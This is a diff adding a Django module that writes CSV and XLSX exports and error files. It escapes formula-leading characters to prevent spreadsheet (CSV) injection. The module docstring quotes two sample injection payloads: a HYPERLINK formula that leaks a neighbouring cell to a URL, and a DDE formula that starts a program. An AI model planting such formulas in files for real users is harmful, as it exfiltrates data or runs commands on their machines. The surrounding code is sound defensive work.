@@ -1,0 +1,217 @@
+"""Writing CSV and XLSX: one writer for every export and error file, every cell inert.
+
+A spreadsheet runs text that begins with = + - @ (or a tab or carriage return before them) as a formula:
+=HYPERLINK("http://…?x="&A1,"查看") sends the neighbouring cell away, +cmd|' /C calc'!A0 starts a program.
+Every text cell beginning with one of these characters is written after a single quote (OWASP's advice for
+CSV injection), in CSV and in XLSX alike, so that the file reads the same whichever way it is opened; and in
+XLSX text is written as text, never as a formula or an error value. Numbers, dates and booleans stay what
+they are: the number -5 is not text, "-5" typed as text is.
+"""
+
+import csv
+import datetime as dt
+import io
+import re
+import tempfile
+from collections.abc import Iterable, Iterator, Sequence
+from decimal import Decimal
+
+from django.http import FileResponse, HttpResponse, StreamingHttpResponse
+from django.utils import timezone
+from django.utils.http import content_disposition_header
+
+from core.tabular.reading import CSV, XLSX, Table, table_rows
+
+FORMATS = (CSV, XLSX)
+XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_TYPE = "text/csv; charset=utf-8"
+_DANGER = frozenset("=+-@\t\r")
+_KEPT = frozenset({int, float, Decimal, bool, dt.date, dt.time, type(None)})
+# Characters XML 1.0 cannot hold (openpyxl refuses them), and the text Excel takes for an error value.
+_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")
+_ERROR_VALUES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
+_SHEET_TITLE = re.compile(r"[\[\]:*?/\\]")
+_FLUSH_AT = 64 * 1024
+
+
+def cell_safe(value):
+    """`value` as a file may hold it: text beginning with = + - @, tab or carriage return behind a single quote;
+    numbers, dates, booleans and None unchanged; anything else (lazy translations, objects) as text."""
+    kind = value.__class__
+    if kind is str:
+        return "'" + value if value[:1] in _DANGER else value
+    if kind in _KEPT or kind is dt.datetime:
+        return value
+    if isinstance(value, int | float | Decimal | dt.date | dt.time):
+        return value
+    text = str(value)
+    return "'" + text if text[:1] in _DANGER else text
+
+
+def _xlsx_value(sheet, value):
+    """A value for a write-only sheet: made safe, text that openpyxl would take for something else given as a
+    text cell, characters XML cannot hold left out, aware times in local time (Excel has no time zones)."""
+    value = cell_safe(value)
+    kind = value.__class__
+    if kind is str:
+        if _ILLEGAL.search(value):
+            value = _ILLEGAL.sub("", value)
+        if value in _ERROR_VALUES:
+            from openpyxl.cell import WriteOnlyCell
+
+            cell = WriteOnlyCell(sheet, value=value)
+            cell.data_type = "s"
+            return cell
+        return value
+    if kind is dt.datetime and value.tzinfo is not None:
+        return timezone.localtime(value).replace(tzinfo=None)
+    return value
+
+
+def sheet_title(title: str | None) -> str | None:
+    """A sheet name Excel accepts: without [ ] : * ? / \\, at most 31 characters."""
+    if title is None:
+        return None
+    return _SHEET_TITLE.sub("", str(title)).strip("'")[:31] or "Sheet1"
+
+
+class TableWriter:
+    """Rows written to the binary file `out` as CSV (UTF-8 with the byte-order mark Excel needs) or XLSX (one
+    write-only sheet, streamed to a temporary file until `close`), every cell made safe."""
+
+    def __init__(self, out, kind: str, *, sheet: str | None = None):
+        if kind not in FORMATS:
+            raise ValueError(kind)
+        self.kind, self.out = kind, out
+        if kind == XLSX:
+            from openpyxl import Workbook
+
+            self.book = Workbook(write_only=True)
+            self.sheet = self.book.create_sheet(sheet_title(sheet))
+        else:
+            self.text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="")
+            self.writer = csv.writer(self.text)
+
+    def row(self, cells: Iterable) -> None:
+        if self.kind == XLSX:
+            sheet = self.sheet
+            sheet.append([_xlsx_value(sheet, v) for v in cells])
+        else:
+            self.writer.writerow([cell_safe(v) for v in cells])
+
+    def rows(self, rows: Iterable[Iterable]) -> None:
+        for cells in rows:
+            self.row(cells)
+
+    def close(self) -> None:
+        if self.kind == XLSX:
+            self.book.save(self.out)
+        else:
+            self.text.flush()
+            self.text.detach()  # the caller's file stays open
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, kind, value, traceback):
+        if kind is None:
+            self.close()
+
+
+def table_bytes(*, header: Sequence | None, rows: Iterable[Iterable], kind: str, sheet: str | None = None) -> bytes:
+    """`header` and `rows` as the bytes of a CSV or XLSX file."""
+    out = io.BytesIO()
+    with TableWriter(out, kind, sheet=sheet) as writer:
+        if header is not None:
+            writer.row(header)
+        writer.rows(rows)
+    return out.getvalue()
+
+
+def error_rows_write(out, table: Table, *, titles: Sequence, reasons: Iterable[tuple[int, str]], column: str) -> None:
+    """An import's error file written to `out`: the rows of `table` that `reasons` names ((row, reason) in file
+    order), as they were under the header `titles`, the reason in a last column titled `column`; in the table's
+    own format, so that the corrected file imports as it is."""
+    pending = iter(reasons)
+    nxt = next(pending, None)
+    width = len(titles)  # cells past the header's last title were never read: left out
+    with TableWriter(out, table.kind) as writer:
+        writer.row([*titles, column])
+        for line, cells in table_rows(table):
+            if nxt is None:
+                break
+            if line == nxt[0]:
+                writer.row([*cells[:width], *[None] * (width - len(cells[:width])), nxt[1]])
+                nxt = next(pending, None)
+
+
+def _attachment(response, filename: str):
+    response["Content-Disposition"] = content_disposition_header(True, filename)
+    return response
+
+
+def table_download(*, header: Sequence, rows: Iterable[Iterable], fmt: str, filename: str,
+                   sheet: str | None = None) -> HttpResponse:
+    """A small table as the download `filename`.csv or .xlsx (`fmt`), the XLSX's one sheet named `sheet`."""
+    data = table_bytes(header=header, rows=rows, kind=fmt, sheet=sheet)
+    return _attachment(HttpResponse(data, content_type=XLSX_TYPE if fmt == XLSX else CSV_TYPE), f"{filename}.{fmt}")
+
+
+def csv_chunks(*, header: Sequence, rows: Iterable[Iterable]) -> Iterator[bytes]:
+    """A CSV file a piece at a time, for a response that streams while the rows are read."""
+    buffer = io.StringIO()
+    buffer.write("\ufeff")
+    writer = csv.writer(buffer)
+    writer.writerow([cell_safe(v) for v in header])
+    for cells in rows:
+        writer.writerow([cell_safe(v) for v in cells])
+        if buffer.tell() > _FLUSH_AT:
+            yield buffer.getvalue().encode("utf-8")
+            buffer.seek(0)
+            buffer.truncate()
+    yield buffer.getvalue().encode("utf-8")
+
+
+def table_stream(*, header: Sequence, rows: Iterable[Iterable], fmt: str, filename: str,
+                 sheet: str | None = None) -> StreamingHttpResponse:
+    """A large table as a download: CSV streamed as its rows are read; XLSX written to a temporary file (a zip
+    is finished only at its end) and streamed from there, so memory holds neither."""
+    if fmt == CSV:
+        return _attachment(StreamingHttpResponse(csv_chunks(header=header, rows=rows), content_type=CSV_TYPE),
+                           f"{filename}.{fmt}")
+    out = tempfile.TemporaryFile()
+    with TableWriter(out, XLSX, sheet=sheet) as writer:
+        writer.row(header)
+        writer.rows(rows)
+    out.seek(0)
+    return _attachment(FileResponse(out, content_type=XLSX_TYPE), f"{filename}.{fmt}")
+
+
+# -- laid-out workbooks (styles, merged cells) ------------------------------------------------------------
+
+def workbook_new():
+    """An empty openpyxl workbook for a layout with styles and merged cells; saved with `workbook_bytes`."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.remove(book.active)
+    return book
+
+
+def workbook_bytes(book) -> bytes:
+    """The workbook's file, every text cell made safe and written as text first."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if value is None or cell.__class__.__name__ == "MergedCell":
+                    continue
+                if isinstance(value, str) or cell.data_type in ("f", "e"):
+                    safe = cell_safe(str(value))
+                    if _ILLEGAL.search(safe):
+                        safe = _ILLEGAL.sub("", safe)
+                    cell.value = safe
+                    cell.data_type = "s"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
